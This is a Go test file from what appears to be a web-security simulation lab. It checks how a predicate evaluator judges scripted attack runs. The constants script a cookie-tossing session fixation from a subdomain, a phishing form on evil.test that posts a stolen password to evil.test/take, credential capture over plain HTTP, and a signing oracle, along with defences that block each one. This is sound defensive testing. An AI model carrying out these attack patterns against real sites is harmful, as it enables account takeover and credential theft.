package ask

import (
	"testing"

	"fixlab/lab/script"
)

// TestWeigh: every term, the step that shows it, and the same term turned round.
func TestWeigh(t *testing.T) {
	// 0 get, 1 copy, 2 serve, 3 blog, 4 basket, 5 login, 6 basket, 7 profile, 8 logout, 9 profile, 10 mallory's profile
	const shopping = `title: T
profile: signed-id
on: domain-cookie

mallory get /
mallory copy loot
mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure
alice get https://blog.shop.example/
alice post /basket item=ring
alice post /login user=alice password=correct-horse
alice get /basket
alice get /profile
alice post /logout
alice get /profile
mallory get /profile
`
	const phished = `title: T
profile: signed-id

mallory serve https://evil.test/ <form method="post" action="https://evil.test/take"><input name="pw"><input name="n" value="1"><button>Go</button></form>
alice get https://evil.test/
alice submit pw=correct-horse
alice post https://evil.test/take ticket=none-of-hers
`
	const asked = `title: T
profile: signed-id

alice get /login
alice submit user=alice password=correct-horse
alice get https://evil.test/?n=1
mallory post https://evil.test/take password=correct-horse
`
	const onTheWay = `title: T
profile: signed-id

mallory serve http://shop.example/in <form method="post" action="http://shop.example/in"><input name="user"><input name="password"><button>Go</button></form>
alice get http://shop.example/in
alice submit user=alice password=correct-horse
`
	const oracle = `title: T
profile: flask-seed

mallory paste $cookie=chosen
mallory post /login user=mallory password=hunter2
alice paste $cookie=hers
alice post /login user=alice password=correct-horse
`
	for _, test := range []struct {
		text, row, term string
		holds           bool
		frame           int
	}{
		{shopping, "none", "ends zombie", false, 5},
		{shopping, "none", "decides does alice post /login", false, 7},
		{shopping, "none", "moves mallory <= 4", true, -1},
		{shopping, "none", "moves mallory <= 3", false, 10},
		{shopping, "none", "moves alice <= 0", false, 3},
		{shopping, "none", "has alice stored", true, 3},
		{shopping, "none", "has last alice request", true, 9},
		{shopping, "none", "has mallory refused", false, -1},
		{shopping, "none", "switches <= 0", true, -1},
		{shopping, "none", "shown alice at does alice get /profile", true, 7},
		{shopping, "none", "shown alice at last does alice get /profile", false, 9},
		{shopping, "none", "shown nobody at last does alice get /profile", true, 9},
		{shopping, "none", "shown nobody at does alice get /profile", false, 7},
		{shopping, "none", "shown mallory at does alice get /profile", false, 7},
		{shopping, "none", "shown basket=ring at does alice get /basket", true, 6},
		{shopping, "none", "shown basket=tea at does alice get /basket", false, 6},
		{shopping, "flush", "shown basket=ring at does alice get /basket", false, 6},
		{shopping, "none", "shown alice at does alice get /step-up", false, -1},
		{shopping, "none", "costs <= 0", true, -1},
		{shopping, "flush", "costs <= 0", false, 5},
		{shopping, "flush", "costs <= 1", true, -1},
		{shopping, "none", "gone $loot", true, 10},
		{shopping, "keep-at-logout", "gone $loot", false, 10},
		{shopping, "none", "gone $other", false, 10},
		{shopping, "none", "typed alice shop.example", true, -1},
		{shopping, "none", "typed alice blog.shop.example", false, 5},
		{shopping, "none", "with flush: shown basket=ring at does alice get /basket", false, 6},
		{phished, "none", "typed alice shop.example", false, 2},
		{phished, "none", "typed mallory shop.example", true, -1},
		{asked, "none", "typed alice shop.example", true, -1},
		{asked, "none", "typed mallory shop.example", false, 3},
		{onTheWay, "none", "typed alice shop.example", false, 2},
		{onTheWay, "none", "typed alice evil.test", false, 2},
		{oracle, "none", "signed chosen", true, 1},
		{oracle, "none", "signed hers", false, -1},
		{oracle, "strict", "signed chosen", false, -1},
	} {
		all := rows(t, test.text)
		tr := played(t, test.text, test.row)
		p, err := script.ParsePredicate(test.term)
		if err != nil {
			t.Fatal(err)
		}
		f, err := Weigh(p[0], tr, all)
		if test.term == "ends zombie" || p[0].Word == script.TermDecides {
			test.frame = tr.Verdict.Frame
		}
		if err != nil || f.Holds != test.holds || f.Frame != test.frame || f.Run == nil {
			t.Errorf("%q under %s: %v at %d, %v; want %v at %d", test.term, test.row, f.Holds, f.Frame, err, test.holds, test.frame)
		}
		p[0].Not = true
		if n, err := Weigh(p[0], tr, all); err != nil || n.Holds == f.Holds || n.Frame != f.Frame {
			t.Errorf("%q under %s: %v at %d, %v", p[0], test.row, n.Holds, n.Frame, err)
		}
	}
	for _, term := range []string{"revokes every", "script a: ends defended"} {
		p, err := script.ParsePredicate(term)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Weigh(p[0], played(t, asked, "none"), rows(t, asked)); err == nil || err.Error() != `only a goal can say "`+term+`"` {
			t.Errorf("%s: %v", term, err)
		}
	}
	f, err := Weigh(predicate(t, "with flush: ends broken")[0], played(t, shopping, "none"), rows(t, shopping))
	if err != nil || f.Run.Defences.String() != "flush" {
		t.Errorf("it is about the run under %s, %v", f.Run.Defences, err)
	}
}

func predicate(t *testing.T, text string) script.Predicate {
	t.Helper()
	p, err := script.ParsePredicate(text)
	if err != nil {
		t.Fatal(err)
	}
	return p
}
